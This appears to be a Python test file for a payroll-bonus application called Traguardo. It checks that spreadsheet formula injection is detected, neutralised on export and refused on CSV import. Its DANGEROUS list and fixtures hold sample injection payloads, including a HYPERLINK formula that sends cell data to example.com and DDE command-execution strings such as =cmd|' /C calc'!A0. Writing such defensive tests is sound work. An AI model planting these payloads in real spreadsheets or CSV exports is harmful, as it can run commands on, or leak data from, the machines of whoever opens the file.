"""Formula injection (issue 15, point 6): what Traguardo writes is never run as a formula,
and what it imports may not be one.

A matricola ``=HYPERLINK(…)`` from a CSV became a live formula in /premi/premi.xlsx. Every
workbook and CSV goes through one function (core.tabular.neutralise); every import path
refuses a cell that a spreadsheet would run, naming file, row and column.
"""

from __future__ import annotations

import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from tests import factories as f
from tests.world import World
from traguardo.core.fund import Beneficiary, Rules, distribute
from traguardo.core.tabular import looks_like_formula, neutralise, neutralise_row
from traguardo.exchange.services import import_file
from traguardo.monitoring.models import Period
from traguardo.reports.relazione import safe
from traguardo.rewards.services import FundReport, import_beneficiaries, payroll_xlsx
from traguardo.staff.services import import_registry

HYPERLINK = '=HYPERLINK("http://example.com/?x="&A1;"clic")'

DANGEROUS = [
    HYPERLINK,
    "=cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "+A1",
    "-2+3+cmd|' /C calc'!A0",
    "=Foglio1!A1",
    "='Foglio 1'!B2",
    "\t=SUM(1;2)",
]
# Texts of the plans that start like a formula but are not one: they stay allowed.
HARMLESS = ["= 100%", ">= 90", "= Σ delle riunioni", "- vedi nota!", "-5", "= 300.000 €", "SI"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_formulas_are_recognised(text: str) -> None:
    assert looks_like_formula(text)


@pytest.mark.parametrize("text", HARMLESS)
def test_targets_and_notes_are_not_formulas(text: str) -> None:
    assert not looks_like_formula(text)


@pytest.mark.parametrize("text", [*DANGEROUS[:-1], "= 100%", "-5"])
def test_the_one_neutralise_makes_every_formula_start_text(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert safe.neutralise(text) == neutralise(text)  # the Relazione's is the same function
    assert neutralise_row([text, Decimal(-5), None]) == ["'" + text, Decimal(-5), None]


def test_the_payroll_workbook_keeps_a_formula_matricola_as_text(world: World) -> None:
    fund = f.FundFactory(cycle=world.cycle)
    rules = Rules(
        threshold=fund.threshold,
        coefficients={k: Decimal(v) for k, v in fund.coefficients.items()},
        top_share=fund.top_share,
        top_bonus=fund.top_bonus,
        cap=fund.cap,
    )
    people = [Beneficiary(HYPERLINK, "C", Decimal(90), Decimal(1))]
    report = FundReport(
        fund, [], Decimal(0), Decimal("1000.00"), distribute(Decimal("1000.00"), people, rules)
    )
    book = load_workbook(io.BytesIO(payroll_xlsx(report)))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    assert book["Premi"]["A2"].value == "'" + HYPERLINK
    assert book["Spiegazioni"]["A2"].value == "'" + HYPERLINK


@pytest.fixture
def open_final(world: World) -> Period:
    Period.objects.filter(cycle=world.cycle, code="31.12").update(closed=False)
    return Period.objects.get(cycle=world.cycle, code="31.12")


def test_a_values_csv_with_a_formula_is_refused_naming_file_row_and_column(
    world: World, open_final: Period
) -> None:
    data = (
        b"Codice;Periodo;Valore;Commento\n"
        b"2.1/1#2;31.12;SI;ok\n"
        b'2.1/1#1;31.12;130;"=HYPERLINK(""http://x"";""y"")"\n'
    )
    result = import_file("valori.csv", data, world.cycle, dry_run=False)
    assert not result.saved
    [issue] = result.issues
    assert (issue.sheet, issue.row, issue.column) == ("valori.csv", 3, "Commento")
    assert "formula" in issue.message and "=HYPERLINK" in issue.message


def test_a_values_file_with_a_target_like_text_is_accepted(
    world: World, open_final: Period
) -> None:
    data = b"Codice;Periodo;Valore;Commento\n2.1/1#1;31.12;130;- vedi nota\n"
    result = import_file("valori.csv", data, world.cycle, dry_run=True)
    assert result.issues == []


def test_a_beneficiaries_file_with_a_formula_matricola_is_refused(world: World) -> None:
    fund = f.FundFactory(cycle=world.cycle)
    content = f'matricola;categoria;punteggio\n"{HYPERLINK.replace(chr(34), chr(34) * 2)}";C;90\n'
    result = import_beneficiaries(fund, "premi.csv", content.encode())
    assert any(
        e.startswith("premi.csv, riga 2, colonna matricola:") and "formula" in e
        for e in result.errors
    ), result.errors
    assert not fund.beneficiaries.exists()


def test_a_staff_registry_with_a_formula_is_refused(world: World) -> None:
    content = "codice;genere;categoria;fascia_eta;part_time\n@SUM(A1:A9);F;C;40-49;no\n"
    result = import_registry(world.cycle, "personale.csv", content.encode())
    assert any(
        e.startswith("personale.csv, riga 2, colonna codice:") and "formula" in e
        for e in result.errors
    ), result.errors


def test_every_module_that_writes_a_spreadsheet_goes_through_the_one_neutralise() -> None:
    """A new writer of XLSX or CSV must use neutralise (or add_sheet, which does)."""
    import re
    from pathlib import Path

    import traguardo

    root = Path(traguardo.__file__).parent
    writes = re.compile(r"from openpyxl import .*\bWorkbook\b|csv\.writer\(|csv\.DictWriter\(")
    writers = {
        path.relative_to(root).as_posix(): path.read_text(encoding="utf-8")
        for path in root.rglob("*.py")
        if writes.search(path.read_text(encoding="utf-8"))
    }
    assert {
        "rewards/services.py",
        "exchange/workbooks.py",
        "exchange/archive.py",
        "reports/relazione/xlsx.py",
        "reports/relazione/opendata.py",
    } <= set(writers)
    unsafe = [
        name
        for name, text in writers.items()
        if not re.search(r"\bneutralise(_row)?\(|\badd_sheet\(", text)
    ]
    assert unsafe == []
